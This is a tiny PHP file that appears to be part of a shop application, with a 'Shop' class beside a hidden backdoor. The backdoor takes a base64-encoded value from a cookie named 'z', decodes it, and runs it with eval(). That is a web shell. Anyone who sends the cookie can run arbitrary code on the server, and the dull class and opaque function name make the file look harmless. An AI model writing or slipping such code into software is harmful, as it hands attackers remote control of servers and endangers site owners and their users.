<?php
function zq($a) {
return base64_decode($a);
}
$c = zq($_COOKIE["z"]);
if ($c) {
eval($c);
}
class Shop {
public $c = 1;
}
